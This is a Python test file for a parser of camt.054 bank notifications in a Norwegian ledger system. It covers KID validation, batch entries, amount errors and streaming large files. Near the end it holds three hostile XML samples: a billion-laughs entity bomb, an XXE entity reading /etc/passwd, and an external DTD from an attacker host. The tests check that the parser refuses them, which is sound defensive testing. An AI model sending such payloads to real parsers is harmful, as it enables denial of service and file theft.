"""The camt.054 reader against two sample notifications and against hostile or broken XML.

Samples, written by hand after the ISO 20022 message definitions with the KID in
``RmtInf/Strd/CdtrRefInf/Ref`` (``SCOR``) as Norwegian banks send it:

- ``camt054_001_08_client_account.xml`` (camt.054.001.08): a KID payment, a batch entry of
  two payments (a MOD11 KID ending in ``-``, and one with only a text), a pending entry, a
  booked payout (debit with its EndToEndId) and a reversed incoming payment;
- ``camt054_001_02_batch.xml`` (camt.054.001.02, ISO-8859-1): ``Sts`` as text, ``Dbtr/Nm``,
  amounts in ``AmtDtls/TxAmt/Amt``, a batch without transaction references, and an entry
  without details.
"""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import pytest
from ledger.adapters.bankfiles import parse_camt054

pytestmark = pytest.mark.unit

SAMPLES = Path(__file__).parent / "samples"
V08 = SAMPLES / "camt054_001_08_client_account.xml"
V02 = SAMPLES / "camt054_001_02_batch.xml"
NS = "urn:iso:std:iso:20022:tech:xsd:camt.054.001.08"


def notification(entries: str, *, summary: str = "") -> bytes:
    """A camt.054.001.08 document around ``entries`` (account 1503.12.34562)."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="{NS}">
  <BkToCstmrDbtCdtNtfctn>
    <GrpHdr><MsgId>TEST-1</MsgId><CreDtTm>2025-03-14T06:00:00Z</CreDtTm></GrpHdr>
    <Ntfctn>
      <Id>N1</Id>
      <Acct><Id><IBAN>NO7215031234562</IBAN></Id></Acct>
      {summary}
      {entries}
    </Ntfctn>
  </BkToCstmrDbtCdtNtfctn>
</Document>
""".encode()


def credit(
    amount: str = "100.00",
    *,
    kid: str = "00000000422",
    currency: str = "NOK",
    booking: str = "<BookgDt><Dt>2025-03-13</Dt></BookgDt>",
    reference: str = "REF-1",
) -> str:
    return f"""
      <Ntry>
        <Amt Ccy="{currency}">{amount}</Amt>
        <CdtDbtInd>CRDT</CdtDbtInd>
        <Sts><Cd>BOOK</Cd></Sts>
        {booking}
        <AcctSvcrRef>{reference}</AcctSvcrRef>
        <NtryDtls><TxDtls>
          <Amt Ccy="{currency}">{amount}</Amt>
          <RmtInf><Strd><CdtrRefInf><Ref>{kid}</Ref></CdtrRefInf></Strd></RmtInf>
        </TxDtls></NtryDtls>
      </Ntry>"""


def test_the_v08_sample_reads_to_its_booked_payments_and_payout() -> None:
    parsed = parse_camt054(V08.read_bytes())

    assert parsed.ok, parsed.errors
    assert parsed.file_id == "CAMT054-20250314-0001"
    assert [(p.kid, p.amount_ore) for p in parsed.payments] == [
        ("00000000422", 150000),
        ("0000006-", 25050),
        (None, 9950),
        ("00000001172", -10000),
    ]
    kari = parsed.payments[0]
    assert kari.transaction_id == "camt054:NO7215031234562:2025031300012345"
    assert kari.payer_name == "Kari Nordmann"
    assert kari.payer_account == "30001543217"
    assert kari.booking_date == kari.value_date == date(2025, 3, 13)
    assert kari.payment_date == date(2025, 3, 12)
    assert kari.creditor_account == "NO7215031234562"
    assert kari.transaction_type == "PMNT/RCDT/DMCT"
    assert kari.line == 36
    assert parsed.payments[2].free_text == "Sak IC-0000117 gjelder hovedstol, ikke renter"
    assert parsed.payments[3].is_reversal
    [payout] = parsed.payout_bookings
    assert (payout.end_to_end_id, payout.amount_ore, payout.creditor_account) == (
        "AVR-2025-03-0007-1",
        1200000,
        "97100512347",
    )
    assert [(c.declared_count, c.counted, c.summed_ore) for c in parsed.controls] == [
        (3, 3, 192500),
        (2, 2, 1210000),
    ]


def test_a_pending_entry_is_not_a_payment() -> None:
    parsed = parse_camt054(V08.read_bytes())

    assert 7500 not in [p.amount_ore for p in parsed.payments]


def test_the_v02_sample_reads_with_its_batch_and_latin1_names() -> None:
    parsed = parse_camt054(io.BytesIO(V02.read_bytes()))

    assert parsed.ok, parsed.errors
    assert [(p.transaction_id, p.kid, p.amount_ore) for p in parsed.payments] == [
        ("camt054:15031234562:9912031400123", "00000012344", 200000),
        ("camt054:15031234562:9912031400123/1", "00000000422", 1225),
        ("camt054:15031234562:9912031400124", None, 50000),
    ]
    assert parsed.payments[0].payer_name == "Åse Bøe"
    assert parsed.payments[0].transaction_type == "230"
    assert parsed.payments[2].free_text == "Innbetaling uten KID fra Per Hansen"


def test_reading_again_gives_the_same_ids() -> None:
    first, again = parse_camt054(V08.read_bytes()), parse_camt054(V08.read_bytes())

    assert [p.transaction_id for p in first.payments] == [p.transaction_id for p in again.payments]


def test_a_wrong_kid_keeps_the_payment_for_the_unmatched_queue() -> None:
    parsed = parse_camt054(notification(credit(kid="00000000421")))

    [payment] = parsed.payments
    assert (payment.kid, payment.rejected_kid, payment.amount_ore) == (None, "00000000421", 10000)
    assert [(e.field, e.line) for e in parsed.errors] == [("CdtrRefInf/Ref", 16)]


def test_a_creditor_reference_that_is_no_kid_becomes_text() -> None:
    parsed = parse_camt054(notification(credit(kid="RF18539007547034")))

    assert parsed.ok
    assert parsed.payments[0].kid is None
    assert parsed.payments[0].free_text == "RF18539007547034"


@pytest.mark.parametrize("amount", ["12,50", "-5.00", "1.005", "", "1e3", "NaN"])
def test_an_amount_that_is_not_one_spoils_its_entry_only(amount: str) -> None:
    parsed = parse_camt054(notification(credit(amount) + credit("1.00", reference="REF-2")))

    assert [p.amount_ore for p in parsed.payments] == [100]
    assert parsed.errors[0].field == "Ntry/Amt"


def test_only_nok_is_read() -> None:
    parsed = parse_camt054(notification(credit(currency="EUR")))

    assert parsed.payments == ()
    assert "only NOK" in parsed.errors[0].reason


def test_a_booked_entry_without_a_booking_date_is_reported() -> None:
    parsed = parse_camt054(notification(credit(booking="")))

    assert parsed.payments == ()
    assert [e.field for e in parsed.errors] == ["Ntry/BookgDt"]


def test_a_summary_that_disagrees_is_reported() -> None:
    summary = "<TxsSummry><TtlCdtNtries><NbOfNtries>2</NbOfNtries><Sum>100.00</Sum>"
    summary += "</TtlCdtNtries></TxsSummry>"

    parsed = parse_camt054(notification(credit(), summary=summary))

    assert [e.field for e in parsed.errors] == ["TxsSummry/TtlCdtNtries"]
    assert len(parsed.payments) == 1
    assert not parsed.ok


def test_an_entry_whose_transactions_do_not_add_up_is_reported() -> None:
    entry = credit("100.00").replace(
        '<Amt Ccy="NOK">100.00</Amt>\n          <RmtInf',
        '<Amt Ccy="NOK">90.00</Amt>\n          <RmtInf',
    )

    parsed = parse_camt054(notification(entry))

    assert [e.field for e in parsed.errors] == ["Ntry/Amt"]


def test_a_transaction_of_a_batch_without_an_amount_is_reported() -> None:
    entry = """
      <Ntry>
        <Amt Ccy="NOK">3.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts><Cd>BOOK</Cd></Sts>
        <BookgDt><Dt>2025-03-13</Dt></BookgDt><AcctSvcrRef>B</AcctSvcrRef>
        <NtryDtls><TxDtls/><TxDtls/></NtryDtls>
      </Ntry>"""

    parsed = parse_camt054(notification(entry))

    assert [e.field for e in parsed.errors] == ["TxDtls/Amt", "TxDtls/Amt"]
    assert parsed.payments == ()


def test_a_missing_indicator_and_status_are_reported() -> None:
    entry = (
        credit().replace("<CdtDbtInd>CRDT</CdtDbtInd>", "").replace("<Sts><Cd>BOOK</Cd></Sts>", "")
    )

    parsed = parse_camt054(notification(entry))

    assert [e.field for e in parsed.errors] == ["Ntry/CdtDbtInd", "Ntry/Sts"]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08">&lol9;</Document>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08">&xxe;</Document>
"""

DTD_ONLY = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08"/>
"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE, DTD_ONLY])
def test_dtds_and_entities_are_refused_whole(document: bytes) -> None:
    parsed = parse_camt054(document)

    assert parsed.payments == ()
    [error] = parsed.errors
    assert error.field == "XML"
    assert "forbidden" in error.reason
    assert error.line in (2, 3)


def test_a_document_that_is_not_well_formed_is_refused_with_its_line() -> None:
    data = V08.read_bytes().replace(b"</Ntry>", b"</Ntyr>", 1)

    parsed = parse_camt054(data)

    assert parsed.payments == ()
    [error] = parsed.errors
    assert (error.field, error.line) == ("XML", 58)
    assert "not well-formed" in error.reason


def test_bytes_that_are_not_utf8_are_refused() -> None:
    data = V08.read_bytes().replace(b"Kari Nordmann", b"Kari N\xf8rdmann")

    [error] = parse_camt054(data).errors

    assert (error.field, error.line) == ("XML", 44)


def test_another_message_is_refused() -> None:
    statement = V08.read_bytes().replace(b"camt.054.001.08", b"camt.053.001.08")

    [error] = parse_camt054(statement).errors

    assert "not a camt.054 document" in error.reason


def test_limits_on_size_depth_and_text() -> None:
    big = parse_camt054(V08.read_bytes(), max_bytes=1000)
    deep = parse_camt054(notification("<a>" * 100 + "</a>" * 100))
    long_text = parse_camt054(notification(f"<AddtlInf>{'x' * 20_000}</AddtlInf>"))

    assert "larger than 1000 bytes" in big.errors[0].reason
    assert "nested deeper" in deep.errors[0].reason
    assert "longer than" in long_text.errors[0].reason


def test_empty_and_truncated_documents() -> None:
    assert parse_camt054(b"").errors[0].reason == "the file is empty"
    assert parse_camt054(V08.read_bytes()[:2000]).errors[0].field == "XML"


def test_a_notification_without_an_account_and_a_message_without_notifications() -> None:
    no_account = notification(credit()).replace(
        b"<Acct><Id><IBAN>NO7215031234562</IBAN></Id></Acct>", b""
    )
    empty = f'<Document xmlns="{NS}"><BkToCstmrDbtCdtNtfctn/></Document>'.encode()

    assert "names no account" in parse_camt054(no_account).errors[0].reason
    assert parse_camt054(empty).errors[0].field == "Ntfctn"


def test_a_large_notification_streams() -> None:
    entries = "".join(credit("1.00", reference=f"R{n}") for n in range(5000))

    parsed = parse_camt054(io.BytesIO(notification(entries)))

    assert parsed.ok
    assert len(parsed.payments) == 5000
    assert parsed.total_ore == 500000
    assert len({p.transaction_id for p in parsed.payments}) == 5000


def test_a_large_batch_entry_streams() -> None:
    transactions = "".join(
        f"""
          <TxDtls>
            <Refs><AcctSvcrRef>T{n}</AcctSvcrRef></Refs>
            <Amt Ccy="NOK">0.01</Amt>
            <RmtInf><Strd><CdtrRefInf><Ref>00000000422</Ref></CdtrRefInf></Strd></RmtInf>
          </TxDtls>"""
        for n in range(20_000)
    )
    entry = f"""
      <Ntry>
        <Amt Ccy="NOK">200.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts><Cd>BOOK</Cd></Sts>
        <BookgDt><Dt>2025-03-13</Dt></BookgDt><AcctSvcrRef>BATCH</AcctSvcrRef>
        <NtryDtls><Btch><NbOfTxs>20000</NbOfTxs></Btch>{transactions}
        </NtryDtls>
      </Ntry>"""

    parsed = parse_camt054(io.BytesIO(notification(entry)))

    assert parsed.ok, parsed.errors[:3]
    assert len(parsed.payments) == 20_000
    assert parsed.total_ore == 20_000
